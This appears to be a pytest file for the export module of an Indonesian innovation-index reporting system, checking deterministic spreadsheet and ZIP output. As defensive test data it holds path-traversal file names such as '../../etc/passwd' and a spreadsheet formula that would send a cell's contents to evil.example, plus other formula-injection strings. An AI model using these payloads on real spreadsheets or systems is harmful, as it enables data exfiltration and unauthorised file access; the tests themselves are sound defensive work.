"""The IGA files as pure functions: deterministic bytes, safe paths, the ministry's layout."""

from __future__ import annotations

import csv
import hashlib
import io
import time
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from uuid import UUID

import msgspec
import openpyxl
import pytest

from services.domain.innovation_krenova import krenova_total
from services.domain.rubric import load_rubric
from services.domain.values import Budget, CriterionScore
from services.review import export
from tests.factories import complete_profile

WHEN = datetime(2025, 11, 3, 2, 15, 7, 123456, tzinfo=UTC)  # 09.15 WIB
DOC = UUID("00000000-0000-4000-8000-000000000001")
VIDEO = UUID("00000000-0000-4000-8000-000000000002")


def report(title: str = "Sí Cepat / Adminduk: \u201cDaring\u201d") -> export.Report:
    profile = msgspec.structs.replace(
        complete_profile(title),
        budget=Budget(apbd_t0=Decimal("150000000"), apbd_t1=Decimal("2500.50")),
    )
    content = b"%PDF-1.4 bukti"
    row = export.ReportRow(
        position=1,
        innovation_id=UUID("00000000-0000-4000-8000-0000000000aa"),
        version=40,
        organisation_code="DISDUKCAPIL",
        organisation="Dinas Kependudukan dan Pencatatan Sipil",
        budget_year=2025,
        rubric_year=2025,
        profile=profile,
        sk_number="188/7/2025",
        sk_date=date(2025, 10, 1),
        indicators=(
            export.IndicatorLine(
                no=1,
                name="Regulasi inovasi daerah",
                weight=3,
                claimed_level=3,
                verified_level=2,
                points=6,
                max_points=9,
                level_description="SK Kepala Daerah",
                evidence=("../../etc/passwd SK.pdf",),
            ),
        ),
        claimed_total=9,
        verified_total=6,
        max_total=111,
        documents=(
            export.EvidenceFile(
                doc_id=DOC,
                name="../../etc/passwd SK.pdf",
                kind="sk",
                sha256=hashlib.sha256(content).hexdigest(),
                size=len(content),
                storage_key="ab/cd",
                indicators=(1, 20),
            ),
            export.EvidenceFile(
                doc_id=VIDEO,
                name="video profil.mp4",
                kind="video",
                sha256="",
                size=0,
                storage_key="",
                url="https://video.example/profil",
                indicators=(),
            ),
        ),
    )
    return export.Report(
        report_id=UUID("00000000-0000-4000-8000-0000000000ff"),
        year=2025,
        created_at=WHEN,
        created_by="Admin Bappeda",
        rows=(row,),
    )


def test_files_are_the_same_bytes_whenever_they_are_made() -> None:
    first = (export.xlsx_bytes(report()), export.csv_bytes(report()))
    time.sleep(1.1)  # the ZIP format stores seconds: a clock leak would show
    assert (export.xlsx_bytes(report()), export.csv_bytes(report())) == first


def test_xlsx_carries_the_report_time_not_the_clock() -> None:
    content = export.xlsx_bytes(report())
    archive = zipfile.ZipFile(io.BytesIO(content))
    # ZIP keeps local time in 2-second steps: 09.15.07 WIB is stored as 09.15.06.
    assert {info.date_time for info in archive.infolist()} == {(2025, 11, 3, 9, 15, 6)}
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.properties.created == datetime(2025, 11, 3, 2, 15, 7)  # noqa: DTZ001 (UTC, naive in xlsx)
    assert book.properties.creator == "SI-RISMA"
    row = dict(
        zip(
            [c.value for c in book["Inovasi"][1]],
            [c.value for c in book["Inovasi"][2]],
            strict=True,
        )
    )
    assert row["Anggaran APBD T-0 (Rp)"] == 150000000
    assert row["Anggaran APBD T-1 (Rp)"] == 2500.5
    assert row["Anggaran APBD T-2 (Rp)"] is None
    assert row["Tanggal SK penetapan"] == datetime(2025, 10, 1)  # noqa: DTZ001 (xlsx dates are naive)
    assert row["Bentuk inovasi"] == "Inovasi pelayanan publik"
    assert row["Tematik"] == "Digitalisasi layanan pemerintahan"
    assert row["Indikator 1 level"] == 2 and row["Indikator 1 nilai"] == 6
    summary = dict(book["Ringkasan"].iter_rows(values_only=True))
    assert summary["Dibuat"] == "3 November 2025 09.15 WIB"


def test_csv_has_a_bom_and_every_profile_field() -> None:
    content = export.csv_bytes(report())
    assert content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert row["Nama inovasi"].startswith("Sí Cepat")
    assert row["Waktu penerapan"] == "2023-09-01"
    for name, _ in export.PROFILE_COLUMNS:
        assert name in row


def test_zip_paths_are_safe_and_arranged_by_innovation_and_indicator() -> None:
    entries = export.evidence_entries(report())
    paths = [e.path for e in entries]
    folder = "laporan-iga-2025/01-si-cepat-adminduk-daring"
    assert paths == [
        f"{folder}/indikator-01/passwd_SK.pdf",
        f"{folder}/indikator-20/passwd_SK.pdf",
        f"{folder}/dokumen-umum/video_profil.url",
        "laporan-iga-2025/MANIFEST.csv",
    ]
    assert all(".." not in p and not p.startswith("/") for p in paths)
    blobs = {"ab/cd": b"%PDF-1.4 bukti"}
    out = io.BytesIO()
    export.write_evidence_zip(report(), entries, lambda key: iter([blobs[key]]), out)
    archive = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    assert archive.read(paths[0]) == b"%PDF-1.4 bukti"
    assert b"URL=https://video.example/profil" in archive.read(paths[2])
    assert all(i.compress_type == zipfile.ZIP_STORED for i in archive.infolist())
    again = io.BytesIO()
    export.write_evidence_zip(report(), entries, lambda key: iter([blobs[key]]), again)
    assert again.getvalue() == out.getvalue()
    manifest = list(csv.DictReader(io.StringIO(archive.read(paths[-1]).decode())))
    assert [m["path"] for m in manifest] == paths[:-1]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("SK Kepala Daerah.pdf", "SK_Kepala_Daerah.pdf"),
        ("..\\..\\windows\\sk.pdf", "sk.pdf"),
        ("....", "berkas"),
        ("laporan é.pdf", "laporan_e.pdf"),
    ],
)
def test_safe_filename(name: str, expected: str) -> None:
    assert export.safe_filename(name) == expected


def test_krenova_total_is_weighted_and_rounded_half_up() -> None:
    rubric = load_rubric(2025)
    scores = [
        CriterionScore(key=c.key, score=s)
        for c, s in zip(rubric.krenova_criteria, [88, 89, 90, 91, 92], strict=True)
    ]
    assert krenova_total(rubric, scores) == Decimal("89.50")
    odd = [CriterionScore(key=c.key, score=1) for c in rubric.krenova_criteria]
    assert krenova_total(rubric, odd) == Decimal("1.00")


HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&B2,"Lihat bukti")'


def hostile_report() -> export.Report:
    """A title and an initiator that a spreadsheet would run as formulas."""
    base = report(HOSTILE_TITLE)
    row = base.rows[0]
    profile = msgspec.structs.replace(
        row.profile, initiator_name="=1+1", urusan="", urusan_unmatched="@SUM(A1)"
    )
    return msgspec.structs.replace(
        base,
        created_by="-2+3",
        rows=(msgspec.structs.replace(row, profile=profile),),
    )


def test_xlsx_writes_formula_text_as_text_cells() -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(hostile_report())))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in (HOSTILE_TITLE, "=1+1", "@SUM(A1) (perlu dipilih ulang)", "-2+3"):
        cell = by_value[text]  # the value itself, unchanged, as a string cell shown literally
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.coordinate)
    assert not by_value["Inovasi pelayanan publik"].quotePrefix  # ordinary text is untouched


def test_csv_prefixes_formula_text_with_an_apostrophe() -> None:
    content = export.csv_bytes(hostile_report())
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert row["Nama inovasi"] == "'" + HOSTILE_TITLE
    assert row["Nama inisiator"] == "'=1+1"
    assert row["Urusan pemerintahan"].startswith("'@SUM(A1) (")
    assert row["Anggaran APBD T-0 (Rp)"] == "150000000"  # numbers stay numbers
    assert export.csv_bytes(hostile_report()) == content  # still a pure function
